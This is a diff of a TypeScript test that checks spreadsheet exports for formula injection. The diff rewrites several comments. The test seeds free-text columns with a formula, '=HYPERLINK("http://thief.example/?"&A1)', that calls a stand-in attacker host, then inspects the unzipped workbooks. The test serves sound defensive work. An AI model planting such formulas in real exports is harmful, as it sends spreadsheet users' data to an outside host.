@@ -1,6 +1,6 @@
 /**
- * No exported table starts a formula in a spreadsheet: every export of the contract, from a
- * company in which every text that a user may key begins as a formula does.
+ * No exported table starts a formula in a spreadsheet: every export of the contract, from a company in which
+ * every text that a user may enter begins like a formula.
  */
 import { inflateRawSync } from "node:zlib";
 import type { AnyCall } from "@larder/domain/kernel/calls";
@@ -17,7 +17,7 @@ afterAll(() => tried.world.close());
 
 const FORMULA = '=HYPERLINK("http://thief.example/?"&A1)';
 
-/** Every text column in which a person's words stand and that no rule limits to a few values. */
+/** Every text column with free text, not restricted to a few values. */
 async function keyFormulas(tenantId: string): Promise<void> {
   const columns = await tried.world.rows<{ table: string; column: string }>(
     tenantId,
@@ -37,7 +37,7 @@ async function keyFormulas(tenantId: string): Promise<void> {
 
 const isExport = (call: AnyCall) => call.answer === "file" && /export|template/i.test(call.path);
 
-/** The files of a workbook by name: what the table of contents at its end says, inflated. */
+/** The files of a workbook by name, read from the zip directory at its end and inflated. */
 function unzipped(bytes: Buffer): Map<string, string> {
   const files = new Map<string, string>();
   for (
@@ -66,7 +66,7 @@ test("in no cell of any export", { timeout: 60_000 }, async () => {
   expect(exports.length).toBeGreaterThan(8);
   for (const call of exports) {
     const client = tried.isOperators(call) ? tried.operator : tried.admin;
-    // Everything, or, where a call must be told of whom, what it asks for.
+    // Everything, or, where a call requires a record, that record.
     const needs = !call.input.safeParse({}).success;
     const response = await client.fetch(call, needs ? tried.asked(call) : {});
     const bytes = Buffer.from(await response.arrayBuffer());
